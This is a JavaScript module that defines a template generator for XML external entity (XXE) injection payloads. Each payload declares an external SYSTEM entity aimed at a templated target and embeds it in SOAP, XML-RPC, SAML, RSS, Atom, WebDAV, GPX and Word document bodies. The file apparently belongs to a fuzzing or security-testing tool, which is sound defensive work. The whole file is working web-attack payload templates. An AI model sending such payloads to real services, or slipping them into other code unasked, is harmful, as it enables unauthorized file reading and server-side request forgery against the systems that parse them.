import { xxeGenerator } from '../xxe-generator.js';

/** Services: SOAP, XML-RPC, SAML, feeds, WebDAV. */
export const soapEnvelope = xxeGenerator({
  name: 'soap-envelope',
  location: 'text',
  rules: {
    start: [
      '{declaration}{break}<!DOCTYPE {letters:d} [<!ENTITY {entity:e} SYSTEM {q:q}{target}{q:q}>]>{break}{document}',
    ],
    document: [
      '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><{child:c}>&{entity:e};</{child:c}></soap:Body></soap:Envelope>',
      '<methodCall><methodName>{letters}.{letters}</methodName><params><param><value><string>&{entity:e};</string></value></param></params></methodCall>',
      '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><samlp:Extensions>&{entity:e};</samlp:Extensions></samlp:AuthnRequest>',
      '<rss version="2.0"><channel><title>&{entity:e};</title><item><link>http://{host}</link></item></channel></rss>',
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>{letters}</title><entry><summary>&{entity:e};</summary></entry></feed>',
      '<D:propfind xmlns:D="DAV:"><D:prop><{child:c}>&{entity:e};</{child:c}></D:prop></D:propfind>',
      '<gpx version="1.1"><wpt lat="{digit}" lon="{digit}"><name>&{entity:e};</name></wpt></gpx>',
      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&{entity:e};</w:t></w:r></w:p></w:body></w:document>',
    ],
  },
});
